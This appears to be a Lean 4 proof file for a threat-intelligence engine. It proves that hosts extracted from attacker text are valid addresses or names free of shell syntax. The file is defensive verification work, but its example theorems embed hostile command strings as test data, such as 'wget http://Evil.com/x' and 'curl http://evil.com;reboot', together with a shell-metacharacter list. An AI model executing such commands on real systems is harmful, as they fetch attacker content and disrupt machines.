import C2Engine.Analyze.Tokens
import C2Engine.Pipeline.Extract

/-!
# What the pivot may contain

The hosts of the pivot are lifted from attacker text without a check of their own. They are IP
literals and host names, free of shell syntax, on exactly those texts in which the runs of digits
and of hexadecimal digits are addresses and the authorities of URLs are written without shell
syntax.

## Main definitions

* `Sound`: what is wanted of the hosts extracted from a text, and of the rows made of them.
* `WellWritten`: the texts and recorded URLs on which it holds.

## Main results

* `sound_iff`: the hosts of a text are sound exactly if it is well written.
-/

namespace C2Engine

open Python

/-! ### Sound hosts -/

/-- A character of a host name: a letter, a digit, a hyphen, an underscore or a dot. -/
def isHostChar (c : CodePoint) : Bool := c.isAsciiAlnum || PyStr.oneOf (str "-_.") c

/-- A character with a meaning to the shell. -/
def isShellMeta (c : CodePoint) : Bool :=
  PyStr.oneOf (str "|&;<>()$`\\\x22\x27 \t\n*?[]#~\x7b\x7d!") c

/-- The host is written in the text or in a recorded URL, ignoring case. -/
def Occurs (rt : Runtime) (text : PyStr) (existingUrls : List PyStr) (h : PyStr) : Prop :=
  ∃ s ∈ text :: existingUrls, ∃ w, w <:+: s ∧ rt.unicode.lower w = rt.unicode.lower h

/-- The file callbacks of a session that come from the text a file was searched in have the kind
of host the extraction found. -/
def CallbackKinds (rt : Runtime) (text : PyStr) (b : IocBundle) : Prop :=
  ∀ session served f row data magic, servedFiles rt session = .ok served →
    f ∈ session.hpData.files → servedFile rt session f = .ok (some row) →
    decodeBytes f = some data → sniffMagic data = .ok magic →
    expandedText rt.unicode [(payloadText magic data).2] = text →
    ∀ o ∈ fileCallbacks session served, o.c2Host ∈ row.callbacks →
      (o.c2HostKind = .ip ↔ o.c2Host ∈ b.ips)

/-- What is wanted of the hosts extracted from a text and recorded URLs. -/
structure Sound (rt : Runtime) (text : PyStr) (existingUrls : List PyStr) (b : IocBundle) :
    Prop where
  ips : ∀ h ∈ b.ips, IsIpLiteral h
  hostnames : ∀ h ∈ b.hostnames, (∀ c ∈ h, isHostChar c) ∧ ¬ IsIpLiteral h
  occurs : ∀ h ∈ b.ips ++ b.hostnames, Occurs rt text existingUrls h
  clean : ∀ h ∈ b.c2Hosts, ∀ c ∈ h, isShellMeta c = false
  shellReferences : ∀ session ctx, ctx.iocs = b → ∀ o ∈ shellReferences session ctx,
    (o.c2HostKind = .ip ↔ o.c2Host ∈ b.ips)
  fileCallbacks : existingUrls = [] → CallbackKinds rt text b

/-! ### Well written texts -/

/-- The host of an authority is written with the characters of host names, the Kelvin sign standing
for its lower case, or it is an IP literal whose zone has no shell syntax. -/
def PlainHost (uni : Unicode) (r : SplitResult) : Prop :=
  (∀ c ∈ rawHost r.netloc, isHostChar c ∨ c.val = 0x212A) ∨
    (IsIpLiteral (r.hostname uni) ∧ ∀ c ∈ r.hostname uni, isShellMeta c = false)

/-- The texts and recorded URLs whose hosts are sound. -/
structure WellWritten (rt : Runtime) (text : PyStr) (existingUrls : List PyStr) : Prop where
  /-- The numbers of dotted quads are octets. -/
  octets : ∀ m ∈ Re.findall (Re.text rt.unicode) (reIpv4 rt.unicode) text,
    ∀ p ∈ PyStr.split (cp '.') (PyStr.partition (cp ':') m).1, IsOctet p
  /-- Runs of hexadecimal digits between colons are eight. -/
  eight : ∀ m ∈ Re.findall (Re.text rt.unicode) reIpv6 text, (PyStr.split (cp ':') m).length = 8
  /-- The authorities of URLs have plain hosts. -/
  hosts : ∀ u ∈ allUrls rt text existingUrls, PyStr.hasSub u (str "://") → ∀ r,
    urlsplit rt.unicode u = .ok r → r.hostname rt.unicode ≠ [] → PlainHost rt.unicode r
  /-- The host of a recorded URL with a tab or a line break is written somewhere. -/
  breaks : ∀ u ∈ existingUrls, (∃ c ∈ u, isKept c = false) → ∀ h, urlHost rt u = .ok h →
    h ≠ [] → Occurs rt text existingUrls h

variable {rt : Runtime} {text : PyStr} {existingUrls : List PyStr} {b : IocBundle}

/-! ### Hosts of URLs -/

/-- The host of a URL without tabs and line breaks is written in it. -/
theorem exists_infix_of_urlHost {u h : PyStr} (hclean : cleanUrl u <:+: u)
    (hu : urlHost rt u = .ok h) (hne : h ≠ []) :
    ∃ w, w <:+: u ∧ rt.unicode.lower w = rt.unicode.lower h := by
  obtain ⟨r, hr, rfl⟩ := urlHost_cases hu hne
  exact ⟨rawHost r.netloc, ((rawHost_isInfix _).trans (netloc_isInfix hr)).trans hclean,
    (lower_hostname_eq r).symm⟩

theorem cleanUrl_isInfix {u : PyStr} (h : ∀ c ∈ u, isKept c) : cleanUrl u <:+: u := by
  have hsuffix : PyStr.lstrip (fun c => decide (c.val ≤ 0x20)) u <:+ u := List.dropWhile_suffix _
  have hfilter : (PyStr.lstrip (fun c => decide (c.val ≤ 0x20)) u).filter isKept =
      PyStr.lstrip (fun c => decide (c.val ≤ 0x20)) u :=
    List.filter_eq_self.mpr fun c hc => h c (hsuffix.subset hc)
  have hclean : cleanUrl u = PyStr.lstrip (fun c => decide (c.val ≤ 0x20)) u := hfilter
  rw [hclean]
  exact hsuffix.isInfix

theorem isAscii_of_isHostChar {c : CodePoint} (h : isHostChar c) : c.isAscii := by
  have hauthority : isAuthorityChar c := by
    rw [isHostChar, Bool.or_eq_true] at h
    rcases h with h | h
    · rw [isAuthorityChar, isLabelChar, h, Bool.true_or, Bool.true_or]
    · rw [PyStr.oneOf, List.elem_iff] at h
      have hall : (str "-_.").all isAuthorityChar := by decide
      exact List.all_eq_true.mp hall c h
  exact (visible_of_isAuthorityChar hauthority).2

/-- A character of a host name has no meaning to the shell. -/
theorem isShellMeta_of_isHostChar {c : CodePoint} (h : isHostChar c) : isShellMeta c = false := by
  rw [isShellMeta, PyStr.oneOf, Bool.eq_false_iff, ne_eq, List.elem_iff]
  intro hmem
  have hall :
      (str "|&;<>()$`\\\x22\x27 \t\n*?[]#~\x7b\x7d!").all fun d => !isHostChar d := by
    decide
  have hnot := List.all_eq_true.mp hall c hmem
  rw [h] at hnot
  exact Bool.false_ne_true hnot

/-- Folding keeps the characters of host names, and makes one of no other but the Kelvin sign. -/
theorem isHostChar_fold (c : CodePoint) :
    isHostChar c.fold ↔ isHostChar c ∨ c.val = 0x212A := by
  have halnum : ∀ {d : CodePoint}, (65 ≤ d.val ∧ d.val ≤ 90) ∨ (97 ≤ d.val ∧ d.val ≤ 122) →
      isHostChar d := by
    intro d hd
    have halpha : d.isAsciiAlpha := by
      simp only [CodePoint.isAsciiAlpha, CodePoint.between, Bool.or_eq_true, Bool.and_eq_true,
        decide_eq_true_eq]
      exact hd.symm
    rw [isHostChar, CodePoint.isAsciiAlnum, halpha, Bool.true_or, Bool.true_or]
  rcases CodePoint.fold_cases c with ⟨hk, heq⟩ | ⟨hu, hv⟩ | ⟨hk, -, heq⟩
  · rw [heq]
    exact iff_of_true (by decide) (.inr hk)
  · have hrange : 65 ≤ c.val ∧ c.val ≤ 90 := by simpa [CodePoint.between] using hu
    exact iff_of_true (halnum (.inr (by omega))) (.inl (halnum (.inl hrange)))
  · rw [heq]
    exact ⟨.inl, fun h => h.resolve_right hk⟩

/-- A percent sign stays in a host name. -/
theorem percent_mem_hostname {uni : Unicode} {r : SplitResult} (h : cp '%' ∈ rawHost r.netloc) :
    cp '%' ∈ r.hostname uni := by
  rw [SplitResult.hostname, hostinfo_fst]
  dsimp only
  have hpart := PyStr.partition_eq (cp '%') (rawHost r.netloc)
  cases hb : (PyStr.partition (cp '%') (rawHost r.netloc)).2.1 with
  | true =>
    rw [if_pos rfl]
    exact List.mem_append_right _ List.mem_cons_self
  | false =>
    rw [hb, if_neg Bool.false_ne_true, List.append_nil] at hpart
    rw [hpart] at h
    exact absurd h (PyStr.notMem_partition_fst _ _)

/-- The host name of a URL is one of host characters exactly if its host is written so. -/
theorem isHostChar_hostname_iff {uni : Unicode} {r : SplitResult} :
    (∀ c ∈ r.hostname uni, isHostChar c) ↔
      ∀ c ∈ rawHost r.netloc, isHostChar c ∨ c.val = 0x212A := by
  have hpercent : ∀ {s : PyStr}, (∀ c ∈ s, isHostChar c ∨ c.val = 0x212A) → cp '%' ∉ s := by
    intro s h hmem
    rcases h _ hmem with h | h
    · exact absurd h (by decide)
    · exact absurd h (by decide)
  by_cases hraw : cp '%' ∈ rawHost r.netloc
  · refine iff_of_false (fun h => ?_) fun h => hpercent h hraw
    exact hpercent (fun c hc => .inl (h c hc)) (percent_mem_hostname hraw)
  · rw [hostname_of_notMem _ hraw]
    constructor
    · intro h c hc
      have hascii : (uni.lower (rawHost r.netloc)).all CodePoint.isAscii :=
        List.all_eq_true.mpr fun c hc => isAscii_of_isHostChar (h c hc)
      rw [uni.lower_eq_ascii _ hascii] at h
      exact (isHostChar_fold c).mp (h _ (List.mem_map_of_mem hc))
    · intro h
      have hfoldable : (rawHost r.netloc).all CodePoint.isFoldable := by
        refine List.all_eq_true.mpr fun c hc => ?_
        rcases h c hc with hc | hc
        · rw [CodePoint.isFoldable, isAscii_of_isHostChar hc, Bool.true_or]
        · rw [CodePoint.isFoldable, beq_iff_eq.mpr hc, Bool.or_true]
      rw [uni.lower_foldable _ hfoldable]
      intro c hc
      obtain ⟨d, hd, rfl⟩ := List.mem_map.mp hc
      exact (isHostChar_fold d).mpr (h d hd)

/-! ### Addresses of a text -/

/-- The addresses of a well written text are literals. -/
theorem isIpLiteral_of_wellWritten (h : WellWritten rt text existingUrls) {t : PyStr}
    (ht : t ∈ ipTokens rt text) : IsIpLiteral t := by
  rcases mem_ipTokens.mp ht with ⟨m, hm, rfl⟩ | hm
  · exact (isIpLiteral_iff_of_isQuad (isQuad_of_mem hm).1).mpr (h.octets m hm)
  · exact (isIpLiteral_iff_of_isHexRun (isHexRun_of_mem hm).1).mpr (h.eight t hm)

/-- An address of a text is a run of it. -/
theorem infix_of_mem_ipTokens {t : PyStr} (ht : t ∈ ipTokens rt text) : t <:+: text := by
  rcases mem_ipTokens.mp ht with ⟨m, hm, rfl⟩ | hm
  · exact (isQuad_of_mem hm).2
  · exact (isHexRun_of_mem hm).2

theorem ne_nil_of_mem_ipTokens {t : PyStr} (ht : t ∈ ipTokens rt text) : t ≠ [] := by
  rintro rfl
  rcases mem_ipTokens.mp ht with ⟨m, hm, hnil⟩ | hm
  · have hfour := (isQuad_of_mem hm).1.split
    rw [hnil] at hfour
    exact absurd hfour (by decide)
  · exact absurd (isHexRun_of_mem hm).1.five (by decide)

/-- An address of a text has no meaning to the shell. -/
theorem isShellMeta_of_mem_ipTokens {t : PyStr} (ht : t ∈ ipTokens rt text) {c : CodePoint}
    (hc : c ∈ t) : isShellMeta c = false := by
  have hascii : isShellMeta c → c.isAscii ∧ c.isHexDigit = false ∧ c ≠ cp '.' ∧ c ≠ cp ':' := by
    intro hmeta
    rw [isShellMeta, PyStr.oneOf, List.elem_iff] at hmeta
    have hall : (str "|&;<>()$`\\\x22\x27 \t\n*?[]#~\x7b\x7d!").all fun c =>
        c.isAscii && !c.isHexDigit && c != cp '.' && c != cp ':' := by
      decide
    have h := List.all_eq_true.mp hall c hmeta
    simpa [Bool.and_eq_true, and_assoc] using h
  by_contra hmeta
  obtain ⟨hasc, hhex, hdot, hcolon⟩ := hascii (by simpa using hmeta)
  rcases mem_ipTokens.mp ht with ⟨m, hm, rfl⟩ | hm
  · have hdigit : c.isAsciiDigit = false := by
      by_contra hd
      rw [isHexDigit_of_isAsciiDigit (by simpa using hd)] at hhex
      cases hhex
    exact (isQuad_of_mem hm).1.notMem hasc hdigit hdot hc
  · obtain ⟨p, hp, hcp⟩ := PyStr.exists_mem_split hc hcolon
    have hdigit := ((isHexRun_of_mem hm).1.hextets p hp).digits c hcp
    rw [hhex] at hdigit
    cases hdigit

/-! ### Rows -/

/-- The callbacks of a file are endpoints of the text it was searched in. -/
theorem callback_mem_c2Hosts {session : SessionIn} {f : FileRef} {row : C2Observation}
    {data : Bytes} {magic : Option PyStr} (hrow : servedFile rt session f = .ok (some row))
    (hdata : decodeBytes f = some data) (hmagic : sniffMagic data = .ok magic)
    (hb : extract rt (expandedText rt.unicode [(payloadText magic data).2]) [] = .ok b)
    {host : PyStr} (hhost : host ∈ row.callbacks) : host ∈ b.c2Hosts := by
  cases servedAs_of_eq hrow with
  | bare _ _ hnone =>
    rw [hdata] at hnone
    cases hnone
  | payload _ _ hdata' hmatch =>
    obtain rfl := Option.some.inj (hdata'.symm.trans hdata)
    obtain ⟨magic', hosts, hmagic', hhosts, content, truncated, rfl⟩ :=
      servedPayload_eq_ok hmatch rfl
    obtain rfl := Except.ok.inj (hmagic'.symm.trans hmagic)
    have hmem : host ∈ hosts.map Prod.fst := List.mem_of_mem_filter hhost
    rw [findHosts, hb] at hhosts
    obtain rfl := Except.ok.inj hhosts
    simpa using hmem

/-- The kind of a row's host tells an address exactly where the addresses are literals and the host
names are none. -/
theorem classifyHost_eq_ip (hips : ∀ h ∈ b.ips, IsIpLiteral h)
    (hnames : ∀ h ∈ b.hostnames, ¬ IsIpLiteral h) {host : PyStr} (hmem : host ∈ b.c2Hosts) :
    classifyHost host = .ip ↔ host ∈ b.ips := by
  rw [IocBundle.c2Hosts, mem_dedupe, List.mem_append] at hmem
  have hkind : classifyHost host = .ip ↔ IsIpLiteral host := by
    rw [classifyHost, isIp, IsIpLiteral]
    split_ifs with h
    · exact iff_of_true rfl h
    · exact iff_of_false (fun heq => by cases heq) h
  rw [hkind]
  exact ⟨fun hlit => hmem.1.resolve_right fun hname => hnames host hname hlit, hips host⟩

/-! ### The condition -/

theorem mem_c2Hosts_of_mem {h : PyStr} (hne : h ≠ []) (hmem : h ∈ b.ips ∨ h ∈ b.hostnames) :
    h ∈ b.c2Hosts := by
  rw [IocBundle.c2Hosts, mem_dedupe, List.mem_append]
  exact ⟨hmem, hne⟩

theorem urlHost_of_urlsplit {u : PyStr} {r : SplitResult} (hsub : PyStr.hasSub u (str "://"))
    (hr : urlsplit rt.unicode u = .ok r) : urlHost rt u = .ok (r.hostname rt.unicode) := by
  rw [urlHost, if_pos hsub, hr]
  rfl

/-- Sound hosts come from a well written text. -/
theorem Sound.wellWritten (hb : extract rt text existingUrls = .ok b)
    (h : Sound rt text existingUrls b) : WellWritten rt text existingUrls := by
  have htoken : ∀ {t : PyStr}, t ∈ ipTokens rt text → IsIpLiteral t := fun ht =>
    h.ips _ ((mem_hosts_extract hb (ne_nil_of_mem_ipTokens ht)).1.mpr (.inl ht))
  constructor
  · intro m hm
    have ht : (PyStr.partition (cp ':') m).1 ∈ ipTokens rt text :=
      mem_ipTokens.mpr (.inl ⟨m, hm, rfl⟩)
    exact (isIpLiteral_iff_of_isQuad (isQuad_of_mem hm).1).mp (htoken ht)
  · intro m hm
    exact (isIpLiteral_iff_of_isHexRun (isHexRun_of_mem hm).1).mp
      (htoken (mem_ipTokens.mpr (.inr hm)))
  · intro u hu hsub r hr hne
    have hhost : IsUrlHost rt text existingUrls (r.hostname rt.unicode) :=
      ⟨u, hu, urlHost_of_urlsplit hsub hr⟩
    obtain ⟨hips, hnames⟩ := mem_hosts_extract hb hne
    by_cases hlit : IsIpLiteral (r.hostname rt.unicode)
    · have hmem := hips.mpr (.inr ⟨hlit, hhost⟩)
      exact .inr ⟨hlit, h.clean _ (mem_c2Hosts_of_mem hne (.inl hmem))⟩
    · have hmem := hnames.mpr ⟨hlit, hhost⟩
      exact .inl (isHostChar_hostname_iff.mp (h.hostnames _ hmem).1)
  · intro u hu _ host hhost hne
    have hurl : IsUrlHost rt text existingUrls host := ⟨u, List.mem_append_left _ hu, hhost⟩
    obtain ⟨hips, hnames⟩ := mem_hosts_extract hb hne
    refine h.occurs host (List.mem_append.mpr ?_)
    by_cases hlit : IsIpLiteral host
    · exact .inl (hips.mpr (.inr ⟨hlit, hurl⟩))
    · exact .inr (hnames.mpr ⟨hlit, hurl⟩)

/-- The host of a URL of a well written text. -/
theorem isUrlHost_of_wellWritten (h : WellWritten rt text existingUrls) {host : PyStr}
    (hne : host ≠ []) (hurl : IsUrlHost rt text existingUrls host) :
    ((∀ c ∈ host, isHostChar c) ∨ IsIpLiteral host ∧ ∀ c ∈ host, isShellMeta c = false) ∧
      Occurs rt text existingUrls host := by
  obtain ⟨u, hu, huh⟩ := hurl
  obtain ⟨r, hr, rfl⟩ := urlHost_cases huh hne
  constructor
  · have hsub : PyStr.hasSub u (str "://") := by
      by_contra hsub
      rw [urlHost, if_neg hsub] at huh
      exact hne (Except.ok.inj huh).symm
    exact (h.hosts u hu hsub r hr hne).imp_left isHostChar_hostname_iff.mpr
  · rcases List.mem_append.mp hu with hu | hu
    · by_cases hkept : ∀ c ∈ u, isKept c
      · obtain ⟨w, hw, hlower⟩ := exists_infix_of_urlHost (cleanUrl_isInfix hkept) huh hne
        exact ⟨u, List.mem_cons_of_mem _ hu, w, hw, hlower⟩
      · push Not at hkept
        obtain ⟨c, hc, hbreak⟩ := hkept
        exact h.breaks u hu ⟨c, hc, by simpa using hbreak⟩ _ huh hne
    · obtain ⟨hclean, hinfix⟩ := cleanUrl_of_mem_findUrls hu
      obtain ⟨w, hw, hlower⟩ := exists_infix_of_urlHost (by rw [hclean]) huh hne
      exact ⟨text, List.mem_cons_self, w, hw.trans hinfix, hlower⟩

/-- The hosts of a well written text are sound. -/
theorem WellWritten.sound (hb : extract rt text existingUrls = .ok b)
    (h : WellWritten rt text existingUrls) : Sound rt text existingUrls b := by
  have hne : ∀ {host : PyStr}, host ∈ b.ips ∨ host ∈ b.hostnames → host ≠ [] :=
    ne_nil_of_mem_extract hb
  have hips : ∀ host ∈ b.ips, IsIpLiteral host := by
    intro host hmem
    rcases (mem_hosts_extract hb (hne (.inl hmem))).1.mp hmem with ht | ⟨hlit, -⟩
    · exact isIpLiteral_of_wellWritten h ht
    · exact hlit
  have hnames : ∀ host ∈ b.hostnames, (∀ c ∈ host, isHostChar c) ∧ ¬ IsIpLiteral host := by
    intro host hmem
    obtain ⟨hnot, hurl⟩ := (mem_hosts_extract hb (hne (.inr hmem))).2.mp hmem
    refine ⟨?_, hnot⟩
    rcases (isUrlHost_of_wellWritten h (hne (.inr hmem)) hurl).1 with hchars | ⟨hlit, -⟩
    · exact hchars
    · exact absurd hlit hnot
  have hkind : ∀ {host : PyStr}, host ∈ b.c2Hosts → (classifyHost host = .ip ↔ host ∈ b.ips) :=
    classifyHost_eq_ip hips fun host hmem => (hnames host hmem).2
  constructor
  · exact hips
  · exact hnames
  · intro host hmem
    have hmem := List.mem_append.mp hmem
    obtain ⟨hipsIff, hnamesIff⟩ := mem_hosts_extract hb (hne hmem)
    have hsource : host ∈ ipTokens rt text ∨ IsUrlHost rt text existingUrls host :=
      hmem.elim (fun hm => (hipsIff.mp hm).imp_right And.right) fun hm => .inr (hnamesIff.mp hm).2
    rcases hsource with ht | hurl
    · exact ⟨text, List.mem_cons_self, host, infix_of_mem_ipTokens ht, rfl⟩
    · exact (isUrlHost_of_wellWritten h (hne hmem) hurl).2
  · intro host hmem c hc
    obtain ⟨hnil, hsource⟩ := (mem_c2Hosts_extract hb host).mp hmem
    rcases hsource with ht | hurl
    · exact isShellMeta_of_mem_ipTokens ht hc
    · rcases (isUrlHost_of_wellWritten h hnil hurl).1 with hchars | ⟨-, hclean⟩
      · exact isShellMeta_of_isHostChar (hchars c hc)
      · exact hclean c hc
  · rintro session ctx rfl o ho
    obtain ⟨host, hmem, rfl⟩ := mem_shellReferences.mp ho
    exact hkind hmem
  · rintro rfl session served f row data magic - - hrow hdata hmagic rfl o ho hcallback
    have hmem := callback_mem_c2Hosts hrow hdata hmagic hb hcallback
    obtain ⟨g, -, host, -, rfl⟩ := mem_fileCallbacks.mp ho
    exact hkind hmem

/-- **The hosts of a text are sound exactly if it is well written.** -/
theorem sound_iff (hb : extract rt text existingUrls = .ok b) :
    Sound rt text existingUrls b ↔ WellWritten rt text existingUrls :=
  ⟨Sound.wellWritten hb, WellWritten.sound hb⟩

/-- The hosts of a command with a URL and an address. -/
theorem sound_wget : ∃ b,
    extract .basic (str "wget http://Evil.com/x || ping 192.0.2.1") [] = .ok b ∧
      Sound .basic (str "wget http://Evil.com/x || ping 192.0.2.1") [] b := by
  obtain ⟨b, hb⟩ := isOk_iff.mp ((isOk_extract .basic
    (str "wget http://Evil.com/x || ping 192.0.2.1") []).mpr (by decide +kernel))
  refine ⟨b, hb, (sound_iff hb).mpr ⟨by decide +kernel, by decide +kernel, ?_, nofun⟩⟩
  have hall : (allUrls .basic (str "wget http://Evil.com/x || ping 192.0.2.1") []).all fun u =>
      match urlsplit .basic u with
      | .ok r => (rawHost r.netloc).all isHostChar
      | .error _ => true := by
    decide +kernel
  intro u hu _ r hr _
  have hchars := List.all_eq_true.mp hall u hu
  rw [show urlsplit .basic u = .ok r from hr] at hchars
  exact .inl fun c hc => .inl (List.all_eq_true.mp hchars c hc)

/-- A dotted quad that is no address, and a host with the rest of a command line behind it. -/
theorem not_sound_command : ∃ b,
    extract .basic (str "ping 999.1.1.1; curl http://evil.com;reboot") [] = .ok b ∧
      str "evil.com;reboot" ∈ b.hostnames ∧
      ¬ Sound .basic (str "ping 999.1.1.1; curl http://evil.com;reboot") [] b := by
  obtain ⟨b, hb⟩ := isOk_iff.mp ((isOk_extract .basic
    (str "ping 999.1.1.1; curl http://evil.com;reboot") []).mpr (by decide +kernel))
  refine ⟨b, hb, ?_, fun h => ?_⟩
  · exact (mem_hosts_extract hb (by decide)).2.mpr ⟨by decide,
      str "http://evil.com;reboot", by decide +kernel, by decide⟩
  · have hlit := h.ips (str "999.1.1.1")
      ((mem_hosts_extract hb (by decide)).1.mpr (.inl (by decide +kernel)))
    exact absurd hlit (by decide)

end C2Engine
